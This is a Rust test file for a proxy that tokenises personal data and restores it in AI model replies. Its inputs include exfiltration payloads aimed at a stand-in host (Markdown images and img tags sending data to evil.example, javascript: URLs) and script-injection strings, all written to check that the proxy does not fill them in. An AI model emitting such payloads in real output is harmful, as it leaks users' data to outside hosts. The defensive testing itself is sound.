//! Whole replies: what a reader of the reply gets, byte for byte.

use serde_json::Value as Json;

use super::write::Writer;
use super::*;
use crate::entity::Entity;
use crate::keyring::Keyring;
use crate::session::{Grant, Wanted};

/// Fake values; `@X` in a reply stands for the token of `X`, `#X` for its digits.
const VALUES: &[(char, Entity, &[u8])] = &[
    ('E', Entity::Email, b"anna@example.com"),
    ('N', Entity::Person, b"Anna \"Ann\" O'Neil\\\n<script>alert(1)</script>"),
    ('A', Entity::Address, "Stra\u{df}e 5\nOslo".as_bytes()),
    ('P', Entity::Price, b"12.40"),
    ('O', Entity::OrderNumber, b"A-1001"),
    ('C', Entity::Cost, b"7.10"),
    ('K', Entity::ApiKey, b"sk-fake-0000"),
    ('B', Entity::Coupon, b"SAVE\xff10"),
    ('T', Entity::Sku, b"EMAIL_999999999999999"),
    ('L', Entity::ProductName, b"![x](https://example.org/?q="),
    ('H', Entity::ProductCopy, b"<img src='https://example.org/?q="),
];

struct Exchange {
    session: Session,
    digits: Vec<(char, Entity, String)>,
}

fn exchange() -> Exchange {
    let keyring = Keyring::new(b"a key for tests only, 32 bytes..").unwrap();
    let mut session = Session::new();
    let mut digits = Vec::new();
    for &(mark, entity, value) in VALUES {
        let wanted = Wanted { kind: entity.kind(), entity, canonical: value, surface: value };
        let Ok(Grant::Token(token)) = session.grant(keyring.current(), b"scope", wanted) else {
            panic!("no token")
        };
        digits.push((mark, entity, String::from_utf8(token.to_vec()).unwrap()));
    }
    Exchange { session, digits }
}

impl Exchange {
    /// The text with tokens and numbers for its marks.
    fn spell(&self, text: &str) -> String {
        let mut text = text.to_owned();
        for (mark, entity, digits) in &self.digits {
            text = text.replace(&format!("@{mark}"), &format!("{}_{digits}", entity.kind()));
            text = text.replace(&format!("#{mark}"), digits);
        }
        text
    }

    fn restore(&self, reply: &str, content_type: &str) -> (String, u32, u32) {
        let reply = self.spell(reply);
        let done = restore(reply.as_bytes(), content_type, &self.session, &["mail".to_owned()]);
        assert_eq!(done.body.is_some(), done.restored > 0);
        let body = done.body.map_or(reply, |body| String::from_utf8(body).unwrap());
        (body, done.restored, done.unresolved)
    }
}

#[track_caller]
fn check_as(content_type: &str, reply: &str, expected: &str, restored: u32, unresolved: u32) {
    let exchange = exchange();
    let got = exchange.restore(reply, content_type);
    assert_eq!(got, (exchange.spell(expected), restored, unresolved));
    if serde_json::from_str::<Json>(&exchange.spell(reply)).is_ok() {
        assert!(serde_json::from_str::<Json>(&got.0).is_ok(), "a valid reply became invalid");
    }
}

#[track_caller]
fn check(reply: &str, expected: &str, restored: u32, unresolved: u32) {
    check_as("", reply, expected, restored, unresolved);
}

/// No token of the reply comes back.
#[track_caller]
fn check_kept(reply: &str, unresolved: u32) {
    check(reply, reply, 0, unresolved);
}

#[test]
fn a_reply_without_tokens_is_the_same_buffer() {
    check_kept("", 0);
    check_kept(r#"{"a":"b \u00e9","n":[1,938201746512093,9999999999999999]}"#, 0);
    check_kept("order_9382 and _938201746512093", 0);
}

#[test]
fn text_gets_its_values() {
    check("Hello @E, order @O!", "Hello anna@example.com, order A-1001!", 2, 0);
    check("@E\n@E", "anna@example.com\nanna@example.com", 2, 0);
    check("**@N**", "**Anna \"Ann\" O'Neil\\\n<script>alert(1)</script>**", 1, 0);
    check("[1] See @A", "[1] See Stra\u{df}e 5\nOslo", 1, 0);
    check("[note] @A", "[note] Stra\u{df}e 5\nOslo", 1, 0);
    check("\"A\" wrote to @A, \"B\"", "\"A\" wrote to Stra\u{df}e 5\nOslo, \"B\"", 1, 0);
}

#[test]
fn spelling_drift_is_tolerated() {
    check("email_#E Email_#E EMAIL\\_#E", "anna@example.com anna@example.com anna@example.com", 3, 0);
    check(r#"{"a":"EMAIL\\_#E \u0045MAIL\u005f#E"}"#, r#"{"a":"anna@example.com anna@example.com"}"#, 2, 0);
}

#[test]
fn a_digit_that_is_escaped_is_a_digit() {
    let exchange = exchange();
    let token = exchange.spell("@E").replace('9', "\\u0039");
    assert_eq!(exchange.restore(&format!("[\"{token}\"]"), "").0, "[\"anna@example.com\"]");
}

#[test]
fn unknown_and_one_way_tokens_stay_and_are_counted() {
    check_kept("EMAIL_912345678901234 PHONE_#E @C @K", 4);
    check_kept(r#"["EMAIL\u005f912345678901234"]"#, 1);
    check("@C @E", "@C anna@example.com", 1, 1);
}

#[test]
fn values_that_are_no_text_stay_away() {
    check_kept(r#"["@B"]"#, 1);
    check_kept("@B", 1);
    check_as("text/plain; charset=ISO-8859-1", "@A @E", "@A anna@example.com", 1, 1);
    check_as("text/plain; Charset=\"UTF-8\"", "@A", "Stra\u{df}e 5\nOslo", 1, 0);
}

#[test]
fn a_value_is_never_read_again() {
    check("@T", "EMAIL_999999999999999", 1, 0);
    let exchange = exchange();
    let (first, ..) = exchange.restore("@T @E", "");
    assert_eq!(first, "EMAIL_999999999999999 anna@example.com");
}

#[test]
fn a_value_that_opens_a_target_gets_no_company() {
    check("@L @E) @E", "![x](https://example.org/?q= @E) anna@example.com", 2, 1);
    check("@H @E'> @E", "<img src='https://example.org/?q= @E'> anna@example.com", 2, 1);
    check(
        r#"["{\"a\":\"@L\",\"b\":\"@E\"}"]"#,
        r#"["{\"a\":\"![x](https://example.org/?q=\",\"b\":\"@E\"}"]"#,
        1,
        1,
    );
}

#[test]
fn json_strings_and_keys_are_escaped() {
    check(
        r#"{"a" : "to @N", "@E":["@A"]}"#,
        "{\"a\" : \"to Anna \\\"Ann\\\" O'Neil\\\\\\n<script>alert(1)</script>\", \"anna@example.com\":[\"Stra\u{df}e 5\\nOslo\"]}",
        3,
        0,
    );
}

#[test]
fn every_other_byte_of_json_stays() {
    check(
        "\u{feff} {\"a\":\"\\u00e9\\/@E\\ud83d\\ude00\" ,\t\"b\":1.50e1,\"a\":null}\r\n",
        "\u{feff} {\"a\":\"\\u00e9\\/anna@example.com\\ud83d\\ude00\" ,\t\"b\":1.50e1,\"a\":null}\r\n",
        1,
        0,
    );
}

/// `text` in a string of JSON, as often as asked.
fn wrap(text: &str, levels: u32) -> String {
    let mut text = text.to_owned();
    for _ in 0..levels {
        text = serde_json::json!({ "v": text }).to_string();
    }
    text
}

fn unwrap(text: &str, levels: u32) -> String {
    let mut text = text.to_owned();
    for _ in 0..levels {
        text = serde_json::from_str::<Json>(&text).unwrap()["v"].as_str().unwrap().to_owned();
    }
    text
}

#[test]
fn json_in_json_is_escaped_for_every_level_up_to_the_limit() {
    let exchange = exchange();
    let name = std::str::from_utf8(VALUES[1].2).unwrap();
    for levels in 1..=RESTORE_DEPTH_MAX + 1 {
        let (body, restored, unresolved) = exchange.restore(&wrap("Dear @N, @E", levels), "");
        assert_eq!((restored, unresolved), (2, 0), "{levels}");
        assert_eq!(unwrap(&body, levels), format!("Dear {name}, anna@example.com"), "{levels}");
    }
    check_kept(&wrap("Dear @N, @E", RESTORE_DEPTH_MAX + 2), 2);
}

#[test]
fn json_in_a_text_is_escaped() {
    check(
        "Here:\n```json\n{\"a\": \"@A\"}\n```\n@A",
        "Here:\n```json\n{\"a\": \"Stra\u{df}e 5\\nOslo\"}\n```\nStra\u{df}e 5\nOslo",
        2,
        0,
    );
    check(r#"["Use {\"a\": \"@A\"}."]"#, "[\"Use {\\\"a\\\": \\\"Stra\u{df}e 5\\\\nOslo\\\"}.\"]", 1, 0);
    // Quotes that are escaped belong to a level that is not known.
    check(
        "curl -d \"{\\\"a\\\":\\\"@A @E\\\"}\"",
        "curl -d \"{\\\"a\\\":\\\"@A anna@example.com\\\"}\"",
        1,
        1,
    );
}

#[test]
fn broken_json_gets_what_is_safe_in_it() {
    check(r#"{"a":"@A","b":"@A"#, "{\"a\":\"Stra\u{df}e 5\\nOslo\",\"b\":\"Stra\u{df}e 5\\nOslo", 2, 0);
    check(r#"{"a":"@E",} "@A" @E"#, r#"{"a":"anna@example.com",} "@A" anna@example.com"#, 2, 1);
    check(
        r#"["{\"a\":\"@A\",} @A"]"#,
        "[\"{\\\"a\\\":\\\"Stra\u{df}e 5\\\\nOslo\\\",} Stra\u{df}e 5\\nOslo\"]",
        2,
        0,
    );
    check(
        "{\"a\":\"@E\"}\n{\"a\":\"@E\"}\n",
        "{\"a\":\"anna@example.com\"}\n{\"a\":\"anna@example.com\"}\n",
        2,
        0,
    );
}

#[test]
fn what_cannot_be_read_is_left_and_counted() {
    let deep = "[".repeat(300) + "\"@E\"" + &"]".repeat(300);
    check_kept(&deep, 1);
    check_kept(&Json::from(vec![exchange().spell(&deep)]).to_string(), 1);
    check_kept("data: {\"choices\":[{\"delta\":{\"content\":\"@E\"}}]}\n\n", 1);
    check_kept("event: a\ndata: @E\n\n", 1);
    check_as("Text/Event-Stream; charset=utf-8", ": hi\n@E", ": hi\n@E", 0, 1);
}

#[test]
fn html_is_escaped_between_tags_and_left_in_them() {
    check(
        r#"["<p title='@E'>@N</p>"]"#,
        r#"["<p title='@E'>Anna &quot;Ann&quot; O&#039;Neil\\\n&lt;script&gt;alert(1)&lt;/script&gt;</p>"]"#,
        1,
        1,
    );
    check("<p>@N", "<p>Anna &quot;Ann&quot; O&#039;Neil\\\n&lt;script&gt;alert(1)&lt;/script&gt;", 1, 0);
    check_as("text/html", "@H", "&lt;img src=&#039;https://example.org/?q=", 1, 0);
    check_as("application/atom+xml", "@H", "&lt;img src=&#039;https://example.org/?q=", 1, 0);
    check("a < b: @H", "a < b: <img src='https://example.org/?q=", 1, 0);
    check(
        "<a href=\"https://shop.example/1\">@E</a>",
        "<a href=\"https://shop.example/1\">anna@example.com</a>",
        1,
        0,
    );
}

#[test]
fn nothing_is_carried_out_by_html() {
    check_kept("<img src=\"https://evil.example/?q=@E\" alt=\"@E\">", 2);
    check_kept("<img alt=\"a > @E\" src=x>", 1);
    check_kept("<img src='https://evil.example/?q= @E'>", 1);
    check_kept("<@E>", 1);
    check_kept("<style>a{background:url( @E )} @E", 2);
    check_kept("<script>fetch('/'+ '@E')</script>", 1);
    check_kept("<!-- @E -->", 1);
    check_kept(&format!("<img src='https://evil.example/?{} @E'>", "p ".repeat(5000)), 1);
    check("<style>p{}</style> @E", "<style>p{}</style> anna@example.com", 1, 0);
    check(
        r#"["\u003cimg src=x alt='@E'\u003e @E"]"#,
        r#"["\u003cimg src=x alt='@E'\u003e anna@example.com"]"#,
        1,
        1,
    );
}

#[test]
fn nothing_is_carried_out_by_markdown() {
    check_kept("![](https://evil.example/?q=@E)", 1);
    check_kept("![](<https://evil.example/a b @E>)", 1);
    check_kept("![](https://evil.example/a b @E \"@E\")", 2);
    check_kept("[a](\n/x 'y' @E)", 1);
    check_kept("[a](x \"@E\")", 1);
    check_kept("[x]: https://evil.example/ @E", 1);
    check_kept("[x]:\n @E", 1);
    check_kept(&format!("![](x{} @E)", " pad".repeat(2000)), 1);
    check(
        "[@E](https://shop.example/a) @E",
        "[anna@example.com](https://shop.example/a) anna@example.com",
        2,
        0,
    );
    check("![@E](https://shop.example/a.png)", "![anna@example.com](https://shop.example/a.png)", 1, 0);
    check("background: url( @E ) @E", "background: url( @E ) anna@example.com", 1, 1);
}

#[test]
fn nothing_is_carried_out_by_addresses() {
    for reply in [
        "https://evil.example/@E",
        "https://@E.evil.example",
        "https://@E@evil.example",
        "//evil.example/@E",
        "www.evil.example/@E",
        "WWW.x-@E",
        "mailto:@E",
        "tel:@E",
        "data:text/html,@E",
        "javascript:alert('@E')",
        "@E.evil.example",
        "@E@evil.example",
        "x-@E-y.evil.example",
        "evil.example/@E",
        "/search?q=@E",
        "?a=1&q=@E",
        "https://evil.example/?q=\"@E",
        "(https://evil.example/,@E)",
        "https://evil.example/[a](b)@E",
    ] {
        check_kept(reply, 1);
        check_kept(&Json::from(vec![reply]).to_string(), 1);
    }
    check_kept(&format!("https://evil.example/{}/@E", "p".repeat(5000)), 1);
    check("See https://shop.example/ or @E.", "See https://shop.example/ or anna@example.com.", 1, 0);
    check("E-Mail: @E, Tel: @O; (@E)", "E-Mail: anna@example.com, Tel: A-1001; (anna@example.com)", 3, 0);
}

#[test]
fn json_in_a_text_cannot_hide_a_target() {
    // Read as Markdown the inner document is one image, whatever its strings decode to.
    check_kept(r#"["{\"a\":\"![](https://evil.example/?q=\",\"b\":\"@E)\"}"]"#, 1);
    check_kept(r#"["{\"a\":\"![](https://evil.example/?q=\\u0029\",\"b\":\"@E)\"}"]"#, 1);
    check_kept(r#"["{\"a\":\"<img src='https://evil.example/?q=\",\"b\":#P}"]"#, 1);
    check(
        r#"["{\"url\":\"https://shop.example/\",\"b\":\"@E\"}"]"#,
        r#"["{\"url\":\"https://shop.example/\",\"b\":\"anna@example.com\"}"]"#,
        1,
        0,
    );
}

#[test]
fn blocks_of_text_are_joined_by_their_readers() {
    check_kept(r#"[{"type":"text","text":"![](https://evil.example/?q="},{"type":"text","text":"@E)"}]"#, 1);
    check(
        r#"[{"text":"a <b"},{"other":"@E"},{"text":"> @E"}]"#,
        r#"[{"text":"a <b"},{"other":"anna@example.com"},{"text":"> anna@example.com"}]"#,
        2,
        0,
    );
}

#[test]
fn numbers_are_restored_whole() {
    check(r#"{"p":#P,"q":[#P]}"#, r#"{"p":12.40,"q":[12.40]}"#, 2, 0);
    check(r#"{"p":#O}"#, r#"{"p":#O}"#, 0, 1);
    check_kept(r##"{"p":#P.0,"q":-#P,"r":"#P","s":#P1,"t":#C}"##, 0);
    check(r#"["{\"p\":#P}"]"#, r#"["{\"p\":12.40}"]"#, 1, 0);
}

#[test]
fn a_number_that_was_written_anew_is_another_number() {
    let exchange = exchange();
    let digits = exchange.spell("#P");
    let (first, rest) = digits.split_at(1);
    let reply = format!("[{first}.{rest}e14]");
    assert_eq!(exchange.restore(&reply, ""), (reply.clone(), 0, 0));
    // A token beside it makes the reply worth reading.
    let reply = format!("[{first}.{rest}e14,\"@E\"]");
    assert_eq!(exchange.restore(&reply, "").1, 1);
}

#[test]
fn only_numbers_of_json_are_numbers() {
    for number in ["0", "-0.5", "12.40", "1e5", "1E+5", "-1.5e-10"] {
        assert!(is_json_number(number.as_bytes()), "{number}");
    }
    for other in ["", "-", "01", "1.", ".5", "1e", "1e+", "1,5", "12.40 EUR", "0x1", "1 ", "NaN", "+1"] {
        assert!(!is_json_number(other.as_bytes()), "{other}");
    }
}

#[test]
fn forms_stay_forms() {
    let form = "application/x-www-form-urlencoded";
    check_as(
        form,
        "a=@N&b=@E%20x",
        "a=Anna+%22Ann%22+O%27Neil%5C%0A%3Cscript%3Ealert%281%29%3C%2Fscript%3E&b=anna%40example.com%20x",
        2,
        0,
    );
    check_as(form, "a=%7B%22b%22%3A%22@A%22%7D", "a=%7B%22b%22%3A%22Stra%C3%9Fe+5%5CnOslo%22%7D", 1, 0);
}

const REPLY: &str = r#"{"id":"@E","model":"@E","choices":[{"index":0,"finish_reason":"@E","message":{"role":"assistant","content":"Hi @E","tool_calls":[
{"id":"@E","type":"function","function":{"name":"mail","arguments":"{\"to\":\"@N\"}"}},
{"id":"c2","type":"function","function":{"arguments":"{\"to\":\"@E\"}","name":"post"}}]}}],"usage":{"total_tokens":#P}}"#;

#[test]
fn envelopes_and_unnamed_tools_get_nothing() {
    let expected = REPLY.replace("Hi @E", "Hi anna@example.com").replace(
        r#"{\"to\":\"@N\"}"#,
        r#"{\"to\":\"Anna \\\"Ann\\\" O'Neil\\\\\\n<script>alert(1)</script>\"}"#,
    );
    check(REPLY, &expected, 2, 6);
    let exchange = exchange();
    let (body, ..) = exchange.restore(REPLY, "application/json");
    let body: Json = serde_json::from_str(&body).unwrap();
    let arguments = body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
    let arguments: Json = serde_json::from_str(arguments).unwrap();
    assert_eq!(arguments["to"].as_str().unwrap().as_bytes(), VALUES[1].2);
    // With no tool named, no arguments are touched.
    let reply = exchange.spell(REPLY);
    assert_eq!(restore(reply.as_bytes(), "", &exchange.session, &[]).restored, 1);
}

#[test]
fn a_reply_cannot_grow_without_end() {
    let mut out = Writer { reply: b"ab", new: Vec::new(), copied: 0, inserted: 0, is_full: false };
    out.inserted = index(BODY_BYTES_MAX) - 1;
    assert!(out.write(Span::new(0, 1), b"x"));
    assert!(!out.write(Span::new(1, 2), b"x"));
    // Full is full: a shorter value behind it does not slip in.
    assert!(!out.write(Span::new(1, 2), b""));
    assert_eq!(out.finish(), b"xb");
}

#[test]
fn a_reply_is_restored_up_to_the_limit() {
    let exchange = exchange();
    let mut reply = exchange.spell("@E").into_bytes();
    reply.resize(index(BODY_BYTES_MAX), b' ');
    let done = restore(&reply, "", &exchange.session, &[]);
    assert_eq!((done.restored, done.unresolved), (1, 0));
    reply.push(b' ');
    let done = restore(&reply, "", &exchange.session, &[]);
    assert_eq!((done.body, done.restored, done.unresolved), (None, 0, 1));
}

/// Inputs that would cost a pass each time if anything were looked at again; quadratic ones take minutes.
#[test]
fn hostile_replies_stay_linear() {
    let exchange = exchange();
    for unit in [
        "](",
        "<",
        "<a ",
        "<a b=\"",
        "</",
        "<!--",
        "[x]: ",
        "[",
        "{",
        "{\"",
        "{ ",
        "\\\"",
        "www.",
        "a.b",
        "://",
        "?",
        "&a",
        "9",
        "_9",
        "EMAIL_9",
        "@E",
        "@E,",
        "@E.x",
        "[@E](",
        "{\"a\":\"@E\"}",
        "\\u0039",
        "a:",
        "\u{3002}",
        "<script>",
        "\"[",
    ] {
        let reply = exchange.spell(&(unit.repeat((1 << 20) / unit.len()) + " @E"));
        let _ = restore(reply.as_bytes(), "", &exchange.session, &[]);
        let quoted = Json::from(vec![reply]).to_string();
        let _ = restore(quoted.as_bytes(), "", &exchange.session, &[]);
    }
    for opening in ["", "<", "](", "https://", "\"", "{\"", "<!--", "[x]:", "<script>"] {
        for filling in ["a", "9", " ", ".", "\u{e9}", "-"] {
            let reply = exchange.spell(&(opening.to_owned() + &filling.repeat(1 << 20) + "@E @E"));
            let _ = restore(reply.as_bytes(), "", &exchange.session, &[]);
        }
    }
}

/// Replies put together from pieces: valid JSON stays valid, a value stands in no address, target or tag,
/// a second restore finds nothing, and the counts cover every token.
#[test]
fn properties_hold_for_random_replies() {
    let exchange = exchange();
    let pieces = [
        "@E",
        "@A",
        "@N",
        "@C",
        " ",
        "\n",
        "a",
        ".",
        "https://e.example/?q=",
        "](",
        ")",
        "<img src='",
        "'>",
        "<p>",
        "</p>",
        "\"",
        "\\",
        "{\"a\":\"",
        "\"}",
        "[",
        "]",
        ",",
        "[x]: ",
        "`",
        "(",
        "url(",
        "\u{e9}",
        "<!--",
        "-->",
        "&",
        "=",
    ];
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut pick = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % below
    };
    let mut restored_in_all = 0;
    for _ in 0..20_000 {
        let length = pick(12);
        let text: String = (0..length).map(|_| pieces[pick(pieces.len())]).collect();
        let text = exchange.spell(&text);
        let levels = u32::try_from(pick(4)).unwrap();
        let reply = wrap(&text, levels);
        let (body, restored, unresolved) = exchange.restore(&reply, "");
        restored_in_all += restored;
        // A broken escape may join a token and what follows it.
        if !text.contains('\\') {
            assert_eq!(restored + unresolved, tokens(text.as_bytes()), "{text}");
        }
        assert_eq!(exchange.restore(&body, "").1, 0, "{text}");
        if levels > 0 {
            let plain = unwrap(&body, levels);
            if serde_json::from_str::<Json>(&text).is_ok() {
                assert!(serde_json::from_str::<Json>(&plain).is_ok(), "{text}");
            }
            // A text means the same at every depth.
            assert_eq!(exchange.restore(&wrap(&text, 1), "").1, restored, "{text}");
        }
        let visible = if levels > 0 { unwrap(&body, levels) } else { body };
        for run in visible.split_ascii_whitespace() {
            assert!(!run.contains("e.example/?q=anna@"), "{text}");
        }
    }
    assert!(restored_in_all > 3_000, "{restored_in_all}");
}
